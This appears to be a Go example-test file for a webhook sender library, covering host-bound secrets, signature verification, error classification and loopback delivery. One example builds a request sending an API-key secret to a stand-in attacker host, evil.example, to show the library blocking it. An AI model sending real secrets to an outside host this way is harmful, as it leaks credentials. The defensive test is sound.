package httpsender_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"

	"github.com/hybridcampaign/campaign"
	"github.com/hybridcampaign/campaign/campaigntest"
	"github.com/hybridcampaign/campaign/httpsender"
)

// Each secret is bound to the hosts that may get it: whoever writes a campaign
// chooses the secret's name and the URL, and could choose a host of their own.
func ExampleEnvSecrets() {
	sender := &httpsender.Sender{
		// The secret ESP_API_KEY is in the variable WEBHOOK_ESP_API_KEY.
		Secrets: httpsender.EnvSecrets("WEBHOOK_", map[string][]string{
			"ESP_API_KEY": {"esp.example", "eu.esp.example"},
		}),
	}
	_, err := sender.Send(context.Background(), &campaign.Request{
		Method: "POST", URL: "https://evil.example/collect",
		Headers: campaign.Headers{{Name: "X-Api-Key", Secret: "ESP_API_KEY"}},
	})
	fmt.Println(err)
	// Output:
	// campaign: https://evil.example: unreachable: the secret "ESP_API_KEY" is not bound to evil.example
}

// A receiver in Go checks the signature over the bytes that arrived.
func ExampleVerify() {
	key, err := httpsender.ParseSigningKey("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw")
	if err != nil {
		fmt.Println(err)
		return
	}
	keys := []httpsender.SigningKey{key}
	endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, 1<<20))
		if err != nil {
			http.Error(w, "too long", http.StatusRequestEntityTooLarge)
			return
		}
		if err := httpsender.Verify(r.Header, body, keys, 0); err != nil {
			http.Error(w, "not signed", http.StatusUnauthorized)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	defer endpoint.Close()

	host := strings.TrimPrefix(endpoint.URL, "http://")
	sender := &httpsender.Sender{
		AllowHTTP: true, Allow: []string{"127.0.0.1"},
		Signing: httpsender.SignHosts(map[string][]httpsender.SigningKey{host: keys}),
	}
	resp, err := sender.Send(context.Background(), &campaign.Request{
		ID: "msg_2b7a6f1c", Method: "POST", URL: endpoint.URL, Body: []byte(`{"profileid":"42"}`),
	})
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println("delivered:", resp.Status)
	// Output:
	// delivered: 204
}

// What to do about an error is decided by what it is, not by its text.
func ExampleSender_errors() {
	receiver := campaigntest.NewReceiver(nil)
	defer receiver.Close()
	receiver.Answer(campaigntest.Reply{Status: 410})

	sender := &httpsender.Sender{AllowHTTP: true, Allow: []string{"127.0.0.1"}}
	_, err := sender.Send(context.Background(), &campaign.Request{Method: "POST", URL: receiver.URL})
	de, _ := errors.AsType[*campaign.DeliveryError](err)
	switch {
	case err == nil:
		fmt.Println("delivered")
	case errors.Is(err, httpsender.ErrPaused):
		fmt.Println("nothing was sent: the endpoint is left alone for a while")
	case errors.Is(err, httpsender.ErrAddress):
		fmt.Println("not an address that may be called")
	case de.Verdict == campaign.Uncertain:
		fmt.Println("it may have arrived")
	default:
		fmt.Println("not delivered:", de.Verdict, de.Status)
	}
	// Output:
	// not delivered: rejected 410
}

// On one's own machine the receiver speaks http, on a loopback address.
func ExampleSender_loopback() {
	sender := &httpsender.Sender{
		AllowHTTP: true,                  // or all is unreachable: "the URL is http"
		Allow:     []string{"127.0.0.1"}, // addresses that are not public
		Secrets:   httpsender.EnvSecrets("CAMPAIGN_", map[string][]string{"ESP_API_KEY": {"127.0.0.1:9099"}}),
	}
	receiver := campaigntest.NewReceiver(nil)
	defer receiver.Close()
	_, err := sender.Send(context.Background(), &campaign.Request{Method: "POST", URL: receiver.URL})
	fmt.Println(err)
	// Output:
	// <nil>
}
